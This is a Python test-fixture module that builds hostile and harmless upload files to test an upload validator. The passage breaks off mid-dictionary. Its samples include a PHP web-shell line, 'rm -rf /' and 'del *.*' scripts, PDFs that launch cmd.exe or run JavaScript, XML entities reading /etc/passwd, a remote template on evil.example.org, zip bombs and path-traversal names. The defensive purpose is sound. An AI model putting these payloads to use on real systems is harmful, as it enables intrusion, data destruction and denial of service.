"""Files that somebody might upload by mistake or on purpose, made in code: pictures and documents, hostile and good."""

import struct
import warnings
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from docx import Document as WordDocument
from openpyxl import Workbook
from PIL import Image as PILImage
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

Files = dict[str, tuple[str, Callable[[], bytes]]]
PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 512
SIGNATURE = b"\x89PNG\r\n\x1a\n"


def picture(format: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    buffer = BytesIO()
    PILImage.effect_noise(size, 80).convert(mode).save(buffer, format, **options)
    return buffer.getvalue()


def moving(format: str, frames: int) -> bytes:
    pictures = [PILImage.effect_noise((8, 8), 90 + number).convert("RGB") for number in range(frames)]
    buffer = BytesIO()
    pictures[0].save(buffer, format, save_all=True, append_images=pictures[1:])
    return buffer.getvalue()


def cut(content: bytes, share: float = 0.5) -> bytes:
    return content[: int(len(content) * share)]


def chunk(kind: bytes, data: bytes, *, crc: int | None = None, length: int | None = None) -> bytes:
    checksum = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data) if length is None else length) + kind + data + struct.pack(">I", checksum)


def png(*chunks: bytes, width: int = 4, height: int = 4) -> bytes:
    """Return a PNG with these chunks between its header and its end."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return SIGNATURE + header + b"".join(chunks) + chunk(b"IEND", b"")


def rows(width: int = 4, height: int = 4) -> bytes:
    return zlib.compress(b"".join(b"\x00" + b"\x80" * width for _ in range(height)))


@cache
def enormous_png() -> bytes:
    """11,000 by 11,000 pixels in a small file."""
    buffer = BytesIO()
    PILImage.new("1", (11_000, 11_000)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def with_exif(exif: bytes) -> bytes:
    plain = picture("JPEG")
    segment = b"Exif\x00\x00" + exif
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment + plain[2:]


def scrambled(content: bytes, begin: float) -> bytes:
    start = int(len(content) * begin)
    return content[:start] + bytes((byte * 7 + 13) % 256 for byte in content[start:])


def with_words(words: str) -> bytes:
    said = PngInfo()
    said.add_text("Comment", words)
    return picture("PNG", pnginfo=said)


def frame_beyond_canvas() -> bytes:
    """A GIF whose canvas says 65,535 by 65,535."""
    content = bytearray(moving("GIF", 1))
    content[6:10] = b"\xff\xff\xff\xff"
    return bytes(content)


def said_size(content: bytes, mark: bytes, width: int, height: int, form: str = ">II") -> bytes:
    """Return a picture whose head says another size than it has, where that stands behind `mark`."""
    at = content.index(mark) + len(mark)
    size = struct.pack(form, width, height)
    return content[:at] + size + content[at + len(size) :]


def jpeg_of(width: int, height: int) -> bytes:
    content = picture("JPEG")
    at = next(content.index(mark) + 5 for mark in (b"\xff\xc0", b"\xff\xc2") if mark in content)
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


@cache
def many_large_frames() -> bytes:
    """A small file that takes a quarter of a minute to decode."""
    frames = [PILImage.new("P", (2_000, 2_000), number) for number in range(20)]
    buffer = BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


@cache
def plain(format: str, side: int) -> bytes:
    buffer = BytesIO()
    PILImage.new("RGB", (side, side), "#4a1d5c").save(buffer, format)
    return buffer.getvalue()


def with_profile(profile: bytes, format: str = "JPEG") -> bytes:
    return picture(format, icc_profile=profile)


BRAND = b"\x00\x00\x00\x18ftyp%s\x00\x00\x00\x00mif1%s" + b"\x00" * 200

HOSTILE_PICTURES: Files = {
    "empty": ("empty.png", lambda: b""),
    "one byte": ("one.png", lambda: b"\x89"),
    "only a signature": ("signature.png", lambda: SIGNATURE),
    "a web page as PNG": ("page.png", lambda: PAGE),
    "a web page as JPEG": ("page.jpg", lambda: PAGE),
    "a web page under its name": ("page.html", lambda: PAGE),
    "SVG": ("drawing.svg", lambda: SVG),
    "SVG as PNG": ("drawing.png", lambda: SVG),
    "SVG as WebP": ("drawing.webp", lambda: SVG),
    "a program as PNG": ("program.png", lambda: PROGRAM),
    "a program as GIF": ("program.gif", lambda: PROGRAM),
    "a PDF as PNG": ("paper.png", lambda: b"%PDF-1.7\n" + b"0" * 200),
    "an archive as JPEG": ("archive.jpg", lambda: archive({"a.txt": b"a"})),
    "text as AVIF": ("words.avif", lambda: b"words " * 40),
    "a GIF that is a script": ("script.gif", lambda: b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)"),
    "a script with a WebP header": ("script.webp", lambda: b"RIFF\x10\x00\x00\x00WEBPalert(1)"),
    "half a PNG": ("half.png", lambda: cut(picture("PNG"))),
    "half a JPEG": ("half.jpg", lambda: cut(picture("JPEG"))),
    "half a GIF": ("half.gif", lambda: cut(picture("GIF", mode="P"))),
    "half a WebP": ("half.webp", lambda: cut(picture("WEBP"))),
    "half an AVIF": ("half.avif", lambda: cut(picture("AVIF"))),
    "a PNG without its last part": ("nearly.png", lambda: cut(picture("PNG"), 0.9)),
    "a PNG with scrambled pixels": ("scrambled.png", lambda: scrambled(picture("PNG"), 0.4)),
    "a WebP with a scrambled head": ("scrambled.webp", lambda: scrambled(picture("WEBP"), 0.005)),
    "an AVIF with a scrambled head": ("scrambled.avif", lambda: scrambled(picture("AVIF"), 0.1)),
    "a chunk with a wrong checksum": ("checksum.png", lambda: png(chunk(b"IDAT", rows(), crc=1))),
    "a chunk that claims gigabytes": ("claims.png", lambda: png(chunk(b"IDAT", rows(), length=2**31 - 1))),
    "a PNG without pixels": ("none.png", lambda: png()),
    "pixels that are no zlib": ("zlib.png", lambda: png(chunk(b"IDAT", b"\x00" * 60))),
    "a PNG of no width": ("thin.png", lambda: png(chunk(b"IDAT", rows()), width=0)),
    "a PNG that claims 65,535 by 65,535": (
        "wide.png",
        lambda: png(chunk(b"IDAT", rows()), width=65_535, height=65_535),
    ),
    "a text chunk that unpacks to 80 MB": (
        "text.png",
        lambda: png(chunk(b"zTXt", b"k\x00\x00" + zlib.compress(b"a" * 80_000_000)), chunk(b"IDAT", rows())),
    ),
    "121 megapixels": ("enormous.png", enormous_png),
    "a GIF that claims 65,535 by 65,535": ("canvas.gif", frame_beyond_canvas),
    "a GIF of 100 frames": ("long.gif", lambda: moving("GIF", 100)),
    "a WebP of 100 frames": ("long.webp", lambda: moving("WEBP", 100)),
    "a PNG of 100 frames": ("long.png", lambda: moving("PNG", 100)),
    "a JPEG as PNG": ("other.png", lambda: picture("JPEG")),
    "a PNG as JPEG": ("other.jpg", lambda: picture("PNG")),
    "a GIF as WebP": ("other.webp", lambda: picture("GIF", mode="P")),
    "a TIFF": ("scan.tiff", lambda: picture("TIFF")),
    "a TIFF as PNG": ("scan.png", lambda: picture("TIFF")),
    "a BMP as PNG": ("bitmap.png", lambda: picture("BMP")),
    "an icon as PNG": ("icon.png", lambda: picture("ICO", (32, 32))),
    "a Photoshop file as JPEG": ("layers.jpg", lambda: b"8BPS\x00\x01" + b"\x00" * 200),
    "a PostScript program as JPEG": ("post.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
    "more than 10 MB": ("big.png", lambda: picture("PNG") + b"\x00" * 10_500_000),
    "a PNG without an ending": ("picture", lambda: picture("PNG")),
    "a JPEG that claims 65,500 by 65,500": ("wide.jpg", lambda: jpeg_of(65_500, 65_500)),
    "a JPEG of no height": ("flat.jpg", lambda: jpeg_of(64, 0)),
    "a PNG that claims two thousand million pixels a row": (
        "endless.png",
        lambda: png(chunk(b"IDAT", rows()), width=2**31 - 1, height=1),
    ),
    "an AVIF that claims 65,000 by 65,000": (
        "wide.avif",
        lambda: said_size(picture("AVIF"), b"ispe\x00\x00\x00\x00", 65_000, 65_000),
    ),
    "a WebP that claims 16,383 by 16,383": (
        "wide.webp",
        lambda: said_size(picture("WEBP"), b"\x9d\x01\x2a", 16_383, 16_383, "<HH"),
    ),
    "a WebP of 13 megapixels": ("large.webp", lambda: plain("WEBP", 3_600)),
    "an AVIF of 17 megapixels": ("large.avif", lambda: plain("AVIF", 4_100)),
    "a PNG of 26 megapixels": ("large.png", lambda: plain("PNG", 5_100)),
    "twenty frames of four megapixels": ("frames.gif", many_large_frames),
    "an AVIF that moves, of which no sizes can be made": ("wave.avif", lambda: moving("AVIF", 4)),
    "a PNG in sixteen bits of grey, of which no sizes can be made": (
        "deep.png",
        lambda: picture("PNG", mode="I;16"),
    ),
    "a name of dots": ("....png", lambda: picture("PNG")),
    "an AVIF of 100 frames": ("long.avif", lambda: moving("AVIF", 100)),
    "half an AVIF that moves": ("half2.avif", lambda: cut(moving("AVIF", 6))),
    "half a WebP that moves": ("half2.webp", lambda: cut(moving("WEBP", 6))),
    "a WebP that moves with a scrambled end": ("end.webp", lambda: scrambled(moving("WEBP", 6), 0.6)),
    "an AVIF that moves with a scrambled end": ("end.avif", lambda: scrambled(moving("AVIF", 6), 0.6)),
    "a PNG that claims a thousand million frames": (
        "frames.png",
        lambda: png(chunk(b"acTL", struct.pack(">II", 10**9, 0)), chunk(b"IDAT", rows())),
    ),
    "a colour profile that unpacks to 80 MB": (
        "profile.png",
        lambda: png(chunk(b"iCCP", b"k\x00\x00" + zlib.compress(b"a" * 80_000_000)), chunk(b"IDAT", rows())),
    ),
    "a HEIC as AVIF": ("phone.avif", lambda: BRAND % (b"heic", b"heic")),
    "a film as AVIF": ("film.avif", lambda: BRAND % (b"isom", b"mp42")),
    "a JPEG 2000 as JPEG": ("other2.jpg", lambda: picture("JPEG2000")),
    "a PHP program behind a head of GIF": ("shell.gif", lambda: b"GIF89a" + b"<?php system($_GET['c']); ?>"),
    "a PHP program under its name": ("shell.php", lambda: picture("JPEG")),
    "a picture under the name of a page": ("choir.png.html", lambda: picture("PNG")),
    "a shortcut to a program": ("choir.png.lnk", lambda: picture("PNG")),
}

# Odd, and yet pictures: they are kept, and every size of them can be made.
GOOD_PICTURES: Files = {
    "JPEG": ("choir.jpg", lambda: picture("JPEG")),
    "JPEG in capitals": ("CHOIR.JPEG", lambda: picture("JPEG")),
    "JPEG for printing": ("print.jpg", lambda: picture("JPEG", mode="CMYK")),
    "PNG": ("choir.png", lambda: picture("PNG")),
    "PNG with see-through parts": ("clear.png", lambda: picture("PNG", mode="RGBA")),
    "PNG with a palette": ("palette.png", lambda: picture("PNG", mode="P")),
    "WebP": ("choir.webp", lambda: picture("WEBP")),
    "AVIF": ("choir.avif", lambda: picture("AVIF")),
    "GIF": ("choir.gif", lambda: picture("GIF", mode="P")),
    "a GIF that moves": ("wave.gif", lambda: moving("GIF", 4)),
    "a WebP that moves": ("wave.webp", lambda: moving("WEBP", 4)),
    "JPEG with broken EXIF": ("exif.jpg", lambda: with_exif(b"MM\x00\x2a\xff\xff\xff\xff" + b"\x13" * 40)),
    "JPEG whose EXIF is nonsense": ("nonsense.jpg", lambda: with_exif(b"\x00" * 200)),
    "JPEG whose EXIF goes round in circles": (
        "circle.jpg",
        lambda: with_exif(b"MM\x00\x2a\x00\x00\x00\x08\x00\x00" + b"\x00\x00\x00\x08" * 4),
    ),
    "JPEG with a script behind it": ("behind.jpg", lambda: picture("JPEG") + PAGE),
    "PNG with an archive behind it": ("both.png", lambda: picture("PNG") + archive({"a.txt": b"a"})),
    "GIF with a program behind it": ("both.gif", lambda: picture("GIF", mode="P") + b"*/=1;alert(1)" + PROGRAM),
    "PNG with a script in its words": ("words.png", lambda: with_words(PAGE.decode())),
    "JPEG with a broken colour profile": ("profile.jpg", lambda: with_profile(b"\x00\x01nonsense" * 40)),
    "PNG with a broken colour profile": ("profile2.png", lambda: with_profile(b"nonsense", "PNG")),
    "WebP with a broken colour profile": ("profile.webp", lambda: with_profile(b"nonsense" * 20, "WEBP")),
    "JPEG that comes in steps": ("steps.jpg", lambda: picture("JPEG", progressive=True)),
    "JPEG in shades of grey": ("grey.jpg", lambda: picture("JPEG", mode="L")),
    "a picture of one pixel": ("dot.png", lambda: picture("PNG", (1, 1))),
    "a picture a thousand times as wide as high": ("line.png", lambda: picture("PNG", (4_000, 4))),
    "a name with a NUL": ("choir\x00.html.png", lambda: picture("PNG")),
    "a name that hides its ending": ("choir\u202egnp.exe.png", lambda: picture("PNG")),
    "a name that a system keeps for itself": ("CON.png", lambda: picture("PNG")),
    "a name in another script": ("\u0445\u043e\u0440 \u2014 \u5408\u5531.png", lambda: picture("PNG")),
    "a name that climbs": ("../../etc/passwd.png", lambda: picture("PNG")),
    "two endings": ("page.php.png", lambda: picture("PNG")),
    "a name of 300 letters": ("a" * 300 + ".png", lambda: picture("PNG")),
}


def archive(entries: dict[str, bytes], compression: int = ZIP_DEFLATED) -> bytes:
    buffer = BytesIO()
    with ZipFile(buffer, "w", compression) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return buffer.getvalue()


def office(main: str, more: dict[str, bytes] | None = None, types: bytes = b"<Types/>") -> bytes:
    return archive({"[Content_Types].xml": types, main: b"<document/>", **(more or {})})


def word(text: str = "Plan") -> bytes:
    buffer = BytesIO()
    document = WordDocument()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def workbook() -> bytes:
    buffer = BytesIO()
    book = Workbook()
    book.active.append(["year", 2021])
    book.save(buffer)
    return buffer.getvalue()


def pdf() -> bytes:
    buffer = BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_archive() -> bytes:
    """An Office file whose entries say that they need a password."""
    content = bytearray(office("word/document.xml"))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def pdf_with(change: Callable[[PdfWriter], object]) -> bytes:
    buffer = BytesIO()
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(buffer)
    return buffer.getvalue()


def pdf_that_does(action: str) -> bytes:
    """A PDF that does something by itself when it is opened."""
    does = DictionaryObject({NameObject("/S"): NameObject(f"/{action}"), NameObject("/F"): TextStringObject("cmd.exe")})
    return pdf_with(lambda writer: writer.root_object.update({NameObject("/OpenAction"): does}))


def hidden_pdf(name: bytes, pages: bytes = b"3 0 R") -> bytes:
    """A PDF whose action has a name that is written with codes, or whose tree of pages holds itself."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S" + name + b"/JS(app.alert\\(1\\))>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[" + pages + b"]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    )


def packed_pdf() -> bytes:
    """A PDF whose action stands in a part that is packed, so that its name is nowhere to be read."""
    hidden = zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(hidden) + hidden + b"\nendstream",
    ]
    content, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj%s endobj\n" % (number, one)
    listed = [struct.pack(">BHB", 1, place, 0) for place in places] + [struct.pack(">BHB", 2, 4, 0)]
    table = zlib.compress(struct.pack(">BHB", 0, 0, 0) + b"".join(listed))
    head = b"<</Type/XRef/Size 6/W[1 2 1]/Index[0 6]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % len(table)
    end = b"6 0 obj%sstream\n%s\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(content))
    return content + end


def lying_archive() -> bytes:
    """An Office file whose list says of a part that it is small, which unpacks to 60 MB."""
    content = bytearray(office(DOCX, {"word/media/a.bin": b"\x00" * 60_000_000}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.rfind(signature)
        content[at + offset : at + offset + 4] = struct.pack("<I", 1_000)
    return bytes(content)


def name_twice() -> bytes:
    """An Office file whose main part is there twice: who checks may read the one, who opens it the other."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the archive's writer
        for content in (LAUGHS, b"<document/>"):
            made.writestr("[Content_Types].xml", b"<Types/>")
            made.writestr(DOCX, content)
    return buffer.getvalue()


REMOTE = (
    b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attached'
    b'Template" Target="https://evil.example.org/a.dotm" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]><document>&c;&d;</document>'
)
MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
BINARY_TYPES = b'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'
BINARY_WORKBOOK = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
OPEN_DOCUMENT = "application/vnd.oasis.opendocument.text"
DOCX, XLSX, PPTX = "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"

HOSTILE_DOCUMENTS: Files = {
    "empty PDF": ("empty.pdf", lambda: b""),
    "empty Word file": ("empty.docx", lambda: b""),
    "empty text": ("empty.txt", lambda: b""),
    "a web page as PDF": ("page.pdf", lambda: PAGE),
    "a web page before a PDF": ("both.pdf", lambda: PAGE + b"%PDF-1.7\n"),
    "a web page as text": ("page.txt", lambda: PAGE),
    "a web page as CSV": ("page.csv", lambda: b"\n  " + PAGE),
    "a web page after a byte-order mark": ("mark.txt", lambda: b"\xef\xbb\xbf" + PAGE),
    "SVG as text": ("drawing.txt", lambda: SVG),
    "a program as Word": ("program.docx", lambda: PROGRAM),
    "a program as PDF": ("program.pdf", lambda: PROGRAM),
    "a program under its name": ("program.exe", lambda: PROGRAM),
    "a script under its name": ("script.js", lambda: b"alert(1)"),
    "a web page under its name": ("page.html", lambda: PAGE),
    "SVG under its name": ("drawing.svg", lambda: SVG),
    "an archive under its name": ("files.zip", lambda: archive({"a.txt": b"a"})),
    "an old Word file": ("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    "an old Word file as a new one": ("old.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    "a macro file under its name": ("macro.docm", lambda: word()),
    "rich text": ("letter.rtf", lambda: b"{\\rtf1 words}"),
    "Word with macros": ("macro.docx", lambda: office(DOCX, {"word/vbaProject.bin": b"x"})),
    "Excel with macros": ("macro.xlsx", lambda: office(XLSX, {"xl/VBAPROJECT.bin": b"x"})),
    "PowerPoint with macros": ("macro.pptx", lambda: office(PPTX, {"ppt/vbaProject.bin": b"x"})),
    "OpenDocument with macros": ("macro.odt", lambda: archive({"content.xml": b"<x/>", "Basic/Standard/a.xml": b"x"})),
    "OpenDocument with scripts": ("script.odt", lambda: archive({"content.xml": b"<x/>", "Scripts/python/a.py": b"x"})),
    "macros under another name": ("renamed.docx", lambda: office(DOCX, {"word/notes.bin": b"x"}, BINARY_TYPES)),
    "a macro file as Word": ("type.docx", lambda: office(DOCX, types=MACRO_TYPES)),
    "Excel 4 macros": ("sheet.xlsx", lambda: office(XLSX, {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "a bomb: far more than its size": ("bomb.docx", lambda: office(DOCX, {"word/media/a.bin": b"\x00" * 60_000_000})),
    "a bomb: very many entries": (
        "many.xlsx",
        lambda: office(XLSX, {f"xl/{number}.xml": b"" for number in range(3_100)}),
    ),
    "an archive that is no Word file": ("archive.docx", lambda: archive({"readme.txt": b"Hello"})),
    "Excel as Word": ("sheet.docx", workbook),
    "Word as Excel": ("letter.xlsx", word),
    "half a Word file": ("half.docx", lambda: cut(word())),
    "a Word file with a password": ("locked.docx", encrypted_archive),
    "a Word file that climbs": ("climb.docx", lambda: office(DOCX, {"../../settings.py": b"x"})),
    "a Word file from the root": ("root.docx", lambda: office(DOCX, {"/etc/passwd": b"x"})),
    "a Word file that climbs backwards": ("back.docx", lambda: office(DOCX, {"..\\..\\settings.py": b"x"})),
    "a Word file with entities": ("entities.docx", lambda: archive({"[Content_Types].xml": b"<Types/>", DOCX: LAUGHS})),
    "NUL in text": ("nul.txt", lambda: b"words\x00more"),
    "NUL in CSV": ("nul.csv", lambda: b"a,b\n\x00,1\n"),
    "text that is not UTF-8": ("latin.txt", lambda: "café".encode("latin-1")),
    "text in UTF-16": ("wide.txt", lambda: "words".encode("utf-16")),
    "captions without their first line": ("words.vtt", lambda: b"00:00.000 --> 00:02.000\nHello\n"),
    "captions of nothing": ("words.vtt", lambda: b"\xef\xbb\xbf"),
    "captions of another sort": ("words.vtt", lambda: b"1\n00:00:00,000 --> 00:00:02,000\nHello\n"),
    "a web page as captions": ("page.vtt", lambda: PAGE),
    "captions that begin like captions": ("almost.vtt", lambda: b"WEBVTTscript"),
    "a web page as a film": ("page.mp4", lambda: PAGE),
    "text as a film": ("words.webm", lambda: b"words" * 20),
    "a program as a film": ("program.mp4", lambda: PROGRAM),
    "no ending": ("notes", lambda: b"words"),
    "only an ending": (".pdf", pdf),
    "a PDF that runs a script when it opens": ("script.pdf", lambda: pdf_that_does("JavaScript")),
    "a PDF that starts a program": ("launch.pdf", lambda: pdf_that_does("Launch")),
    "a PDF that sends what is typed": ("send.pdf", lambda: pdf_that_does("SubmitForm")),
    "a PDF with a file inside": ("inside.pdf", lambda: pdf_with(lambda w: w.add_attachment("a.exe", PROGRAM))),
    "a PDF with a hidden script": ("hidden.pdf", lambda: hidden_pdf(b"/J#61vaScript")),
    "a PDF with a password": ("locked.pdf", lambda: pdf_with(lambda w: w.encrypt("secret", algorithm="RC4-128"))),
    "a PDF that cannot be read": ("damaged.pdf", lambda: b"%PDF-1.7\n" + b"nonsense " * 50),
    "a PDF with a script in a packed part": ("packed.pdf", packed_pdf),
    "half a PDF": ("half.pdf", lambda: cut(pdf(), 0.6)),
    "only the head of a PDF": ("head.pdf", lambda: b"%PDF-1.7\n"),
    "a PDF whose pages go round in circles": ("circle.pdf", lambda: hidden_pdf(b"/X", pages=b"2 0 R")),
    "a program before a PDF": ("program2.pdf", lambda: b"MZ" + b"\x00" * 60 + pdf()),
    "a PDF that is also an archive": ("both2.pdf", lambda: pdf() + archive({"a.exe": PROGRAM})),
    "a template with macros as Word": (
        "dotm.docx",
        lambda: office(DOCX, types=MACRO_TYPES.replace(b"document.m", b"t.m")),
    ),
    "a binary workbook as Excel": ("binary.xlsx", lambda: office(XLSX, {"xl/workbook.bin": b"x"}, BINARY_WORKBOOK)),
    "an object that starts by itself": ("ole.docx", lambda: office(DOCX, {"word/embeddings/oleObject1.bin": b"x"})),
    "a control in a Word file": ("control.docx", lambda: office(DOCX, {"word/activeX/activeX1.bin": b"x"})),
    "a program inside a Word file": ("inside.docx", lambda: office(DOCX, {"word/media/setup.EXE": PROGRAM})),
    "an archive inside a Word file": (
        "nested.docx",
        lambda: office(DOCX, {"word/embeddings/more.zip": archive({"a": b"\x00" * 50_000})}),
    ),
    "a template from elsewhere": ("remote.docx", lambda: office(DOCX, {"word/_rels/settings.xml.rels": REMOTE})),
    "entities behind much white space": (
        "later.docx",
        lambda: archive({"[Content_Types].xml": b"<Types/>", DOCX: b" " * 70_000 + LAUGHS}),
    ),
    "entities in another part": ("styles.docx", lambda: office(DOCX, {"word/styles.xml": LAUGHS})),
    "entities in the words of a workbook": ("words.xlsx", lambda: office(XLSX, {"xl/sharedStrings.xml": LAUGHS})),
    "entities in another encoding": (
        "wide.docx",
        lambda: archive({"[Content_Types].xml": b"<Types/>", DOCX: LAUGHS.decode().encode("utf-16")}),
    ),
    "an Excel file with a password": ("locked.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    "an OpenDocument bomb": ("bomb.odt", lambda: archive({"content.xml": b"<x/>", "Pictures/a": b"\x00" * 60_000_000})),
    "a PowerPoint bomb": ("bomb.pptx", lambda: office(PPTX, {"ppt/media/a.bin": b"\x00" * 60_000_000})),
    "an Excel bomb": ("bomb.xlsx", lambda: office(XLSX, {"xl/media/a.bin": b"\x00" * 60_000_000})),
    "an archive that says it is small": ("liar.docx", lambda: lying_archive()),
    "a name twice in an archive": ("twice.docx", lambda: name_twice()),
    "a spreadsheet as OpenDocument text": (
        "sheet.odt",
        lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
    ),
    "a NUL in a name of an archive": (
        "nulname.docx",
        lambda: office(DOCX, {"word/a_.bin": b"x"}).replace(b"a_.bin", b"a\x00.bin"),
    ),
    "a program as text": ("program.txt", lambda: PROGRAM),
    "a program as captions": ("program.vtt", lambda: PROGRAM),
    "a PHP program as text": ("shell.txt", lambda: b"<?php system($_GET['c']); ?>"),
    "a script of a shell as text": ("shell2.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a web page behind a comment": ("comment.txt", lambda: b"<!-- words -->\n" + PAGE),
    "half a film": ("half.mp4", lambda: b"\x00\x00\x00"),
    "a film of another kind as WebM": ("other.webm", lambda: b"\x1aE\xdf\xa3\x42\x82\x88matroska" + b"\x00" * 64),
    "a picture that moves as a film": ("other.mp4", lambda: BRAND % (b"avif", b"mif1")),
    "a double ending": ("plan.pdf.exe", pdf),
    "an ending with a space": ("plan.pdf ", lambda: PROGRAM),
    "an ending with a dot": ("plan.exe.", lambda: PROGRAM),
    "a macro workbook under its name": ("plan.xlsm", workbook),
    "a list of commands": ("run.bat", lambda: b"del *.*"),
    "a shortcut": ("plan.pdf.lnk", lambda: b"L\x00\x00\x00"),
}
CAPTIONS = "WEBVTT\n\n00:00.000 --> 00:02.000\nHello\n"
GOOD_DOCUMENTS: Files = {
    "Word": ("plan.docx", word),
    "Excel": ("figures.xlsx", workbook),
    "PowerPoint": ("slides.pptx", lambda: office(PPTX)),
    "OpenDocument": ("letter.odt", lambda: archive({"content.xml": b"<x/>"}, ZIP_STORED)),
    "PDF": ("paper.pdf", pdf),
    "a PDF that is locked against changes only": (
        "changes.pdf",
        lambda: pdf_with(lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")),
    ),
    "a Word file that cannot be read": ("odd.docx", lambda: office(DOCX)),
    "CSV": ("figures.csv", lambda: b"year,places\n2021,45\n"),
    "text": ("notes.txt", lambda: "Caf\u00e9 notes".encode()),
    "captions": ("words.vtt", lambda: CAPTIONS.encode()),
    "captions after a byte-order mark": ("mark.vtt", lambda: CAPTIONS.encode("utf-8-sig")),
    "MP4": ("film.mp4", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 64),
    "WebM": ("film.webm", lambda: b"\x1aE\xdf\xa3\x42\x82\x84webm" + b"\x00" * 64),
    "capitals": ("PLAN.DOCX", word),
    "a name in another script": ("\u043f\u043b\u0430\u043d \u2014 \u8a08\u753b.pdf", pdf),
    "a name that hides its ending": ("plan\u202efdp.exe.pdf", pdf),
    "a name that climbs": ("../../etc/passwd.txt", lambda: b"words"),
    "a name with marks": ("a;b=c, d%00e'f.txt", lambda: b"words"),
    "two endings": ("page.html.txt", lambda: b"words"),
}


def cells(*rows: str, head: str = "") -> bytes:
    """Return a workbook whose one sheet has these rows of XML."""
    sheet = f'<worksheet xmlns="{SHEET}">{head}<sheetData>{"".join(rows)}</sheetData></worksheet>'
    return _with_part(workbook(), "xl/worksheets/sheet1.xml", sheet.encode())


def _with_part(content: bytes, name: str, part: bytes) -> bytes:
    with ZipFile(BytesIO(content)) as old:
        return archive({**{entry: old.read(entry) for entry in old.namelist()}, name: part})


@cache
def long_sheet(number: int) -> bytes:
    """A workbook of many rows, each of one number."""
    return cells(*(f'<row r="{row}"><c r="A{row}"><v>{row * 7919 % 100003}</v></c></row>' for row in range(1, number)))


SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A_CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
LAST_CELL = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
EVERYTHING = '<dimension ref="A1:XFD1048576"/>'
# Tables that no import should take: each import's own headings are missing too, and what else is wrong is said first.
HOSTILE_TABLES: Files = {
    "a sheet that claims every cell there is": ("claims.xlsx", lambda: cells(A_CELL, head=EVERYTHING)),
    "a cell in the last corner": ("corner.xlsx", lambda: cells(A_CELL, LAST_CELL, head=EVERYTHING)),
    "fifty thousand rows": ("rows.xlsx", lambda: long_sheet(50_000)),
    "a million rows of CSV": ("rows.csv", lambda: b"a,b\n" + b"1,2\n" * 1_000_000),
    "a hundred thousand columns of CSV": ("columns.csv", lambda: b"a," * 100_000 + b"a\n" + b"1," * 100_000 + b"1\n"),
